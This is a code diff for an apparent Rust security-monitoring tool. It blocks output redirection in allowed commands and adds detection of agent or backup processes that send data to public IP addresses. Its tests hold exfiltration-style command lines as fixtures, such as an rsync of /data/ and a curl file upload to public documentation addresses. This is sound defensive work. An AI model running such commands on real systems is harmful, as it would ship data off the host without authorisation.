@@ -4,7 +4,7 @@ use quell_events::FlatEvent;
 use quell_rules::yaml::{self, Kind, Node};
 
 use crate::cluster::target;
-use crate::evidence::{actor, SHELLS};
+use crate::evidence::{actor, is_inside, SHELLS};
 use crate::input::text;
 
 /// The bundled catalogue.
@@ -167,10 +167,13 @@ pub const INERT_COMMANDS: &[&str] = &["echo", "printf", "cd", "true", ":"];
 
 /// Whether every command of a shell string is one of `allowed` (by base name) or inert
 /// ([`INERT_COMMANDS`], when nothing is written with `>`), and at least one is in
-/// `allowed`. Command substitution never is; input redirection only when `redirects` is
-/// true.
+/// `allowed`. Command substitution never is; redirection (`<`, `>`) only when `redirects`
+/// is true.
 pub fn commands_within(cmd: &str, allowed: &[String], redirects: bool) -> bool {
-    if cmd.contains('`') || cmd.contains("$(") || (!redirects && cmd.contains('<')) {
+    if cmd.contains('`')
+        || cmd.contains("$(")
+        || (!redirects && (cmd.contains('<') || cmd.contains('>')))
+    {
         return false;
     }
     let mut any = false;
@@ -188,6 +191,27 @@ pub fn commands_within(cmd: &str, allowed: &[String], redirects: bool) -> bool {
         }
     }
     any
+}
+
+/// A public address (not the host's or the site's own networks, see [`is_inside`]) that a
+/// command line names as a remote end: `scheme://ADDR`, `user@ADDR` or `ADDR:path` (the
+/// remote syntax of `rsync`, `scp` and `ssh`). Host names are not resolved, and a bare
+/// address (a version number looks like one) is not read as a destination.
+pub fn public_destination(cmd: &str) -> Option<std::net::IpAddr> {
+    cmd.split_whitespace().find_map(|w| {
+        let w = w.trim_matches(|c| c == '"' || c == '\'');
+        let (marked, rest) = match w.split_once("://") {
+            Some((_, r)) => (true, r),
+            None => (w.contains('@') || w.contains(':'), w),
+        };
+        let rest = rest.rsplit_once('@').map_or(rest, |(_, h)| h);
+        let host = match rest.strip_prefix('[') {
+            Some(h) => h.split(']').next().unwrap_or(""),
+            None => rest.split([':', '/']).next().unwrap_or(""),
+        };
+        let ip: std::net::IpAddr = host.parse().ok()?;
+        (marked && !is_inside(&ip)).then_some(ip)
+    })
 }
 
 impl Catalogue {
@@ -350,6 +374,10 @@ impl Catalogue {
     /// The first entry an event matches, within its scope. An entry never matches when
     /// the process's lineage has a service's shell, a dropped binary or a network stdin,
     /// unless it names that signal in `allows` (and its scope, such as `commands`, holds).
+    /// An entry whose connections are its job (`allows: [session_outbound]`: agents,
+    /// backups, archiving) never matches a process whose command line, or its parent's,
+    /// sends to a public address ([`public_destination`]): an agent's job is toward the
+    /// host's or the site's own networks, and data shipped outside is how it leaves.
     /// Session facts (a download) are checked by triage.
     pub fn find(&self, ev: &FlatEvent) -> Option<Match<'_>> {
         let tgt = target(ev).map(|(_, t)| t);
@@ -357,7 +385,14 @@ impl Catalogue {
         let shell_cmd = shell_command(ev);
         let cmdlines = [text(ev, "proc.cmdline"), text(ev, "proc.pcmdline")];
         let proc_name = text(ev, "proc.name");
+        let ships_out = cmdlines
+            .iter()
+            .flatten()
+            .any(|c| public_destination(c).is_some());
         for entry in &self.entries {
+            if ships_out && entry.allows_signal("session_outbound") {
+                continue;
+            }
             if !entry.writers.is_empty() || (entry.actors.is_empty() && entry.commands.is_empty()) {
                 continue; // build-output entries are consulted by `built`.
             }
@@ -546,6 +581,40 @@ mod tests {
             "{e}"
         );
         assert!(e.message.contains("document too large"), "{e}");
+    }
+
+    /// Issue 11: an agent's or a backup's data leaving for a public address is not the
+    /// agent's job; the same command toward the site's own network is.
+    #[test]
+    fn agents_shipping_to_a_public_address_do_not_match() {
+        assert_eq!(
+            public_destination("rsync -a /data/ u@198.51.100.201:/d/"),
+            Some("198.51.100.201".parse().unwrap())
+        );
+        for inside in [
+            "rsync -a /data/ backup@10.70.0.20:/srv/backup/",
+            "restic -r sftp:backup@192.168.1.5:/repo backup /home",
+            "restic -r s3:https://s3.example.com/bucket backup /home",
+            "tool --version 203.0.113.7",
+            "curl http://[fd00::5]:8080/x",
+        ] {
+            assert_eq!(public_destination(inside), None, "{inside}");
+        }
+        assert!(public_destination("curl -T f https://203.0.113.9/up").is_some());
+        let c = Catalogue::builtin();
+        let inside = ev(
+            r#"{"proc.name":"rsync","proc.cmdline":"rsync -a /data/ backup@10.70.0.20:/srv/","proc.pname":"sh"}"#,
+        );
+        assert_eq!(c.find(&inside).unwrap().entry.name, "backup_agent");
+        let outside = ev(
+            r#"{"proc.name":"rsync","proc.cmdline":"rsync -a /data/ u@198.51.100.201:/d/","proc.pname":"sh"}"#,
+        );
+        assert!(c.find(&outside).is_none());
+        // Its ssh child, by the parent's command line.
+        let child = ev(
+            r#"{"proc.name":"ssh","proc.cmdline":"ssh -l u 198.51.100.201 rsync --server","proc.pname":"rsync","proc.pcmdline":"rsync -a /data/ u@198.51.100.201:/d/"}"#,
+        );
+        assert!(c.find(&child).is_none());
     }
 
     #[test]
